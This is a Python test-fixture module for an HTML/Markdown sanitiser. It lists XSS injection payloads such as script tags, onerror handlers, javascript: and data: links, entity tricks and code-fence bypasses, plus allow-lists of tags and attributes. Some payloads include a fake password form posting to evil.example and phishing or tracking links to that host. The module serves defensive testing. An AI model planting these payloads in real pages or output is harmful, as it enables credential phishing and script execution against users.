"""HTML/Markdown injection payloads: what a corpus entry or a user's message may hold.

Shared by the sanitiser unit test and the browser test; ALLOWED_* is what may reach the page.
"""

from __future__ import annotations

PAYLOADS = [
    # the bypass: a backslash before a fence defeated the old code-block splitter
    "\\```\n<img src=x onerror=alert(1)>\n<form action=https://evil.example/login><input type=password name=pw>"
    "</form>\n```",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=9></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<a href="javascript:alert(1)">link</a>',
    "<<img src=x>img src=x onerror=alert(1)>",
    # Markdown links and images to other schemes and hosts
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    "[phish](https://evil.example/login)",
    "[proto](//evil.example/x)",
    "![pixel](https://evil.example/x.png)",
    "<javascript:alert(1)>",
    "<https://evil.example/auto>",
    # entity tricks
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    # nested and unbalanced fences
    "````\n```\n</code></pre><img src=x onerror=alert(1)>\n```\n````",
    "~~~\n<img src=x onerror=alert(1)>\n~~~",
    "```\nunclosed <img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "- item\n\n  ```\n  code\n\n  [x](javascript:alert(1))\n  ```",
    "[1] cites <b onclick=alert(1)>bold</b> and [2](javascript:alert(2))",
]

ALLOWED_TAGS = {
    "p", "br", "hr", "strong", "em", "b", "i", "s", "del", "code", "pre", "blockquote", "ul", "ol", "li",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "a", "div", "span",
    "details", "summary",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"href", "title", "target", "rel", "class", "id", "data-lang", "data-answer", "start", "style"}
ALLOWED_LINK_PREFIXES = ("/source/", "#src-")
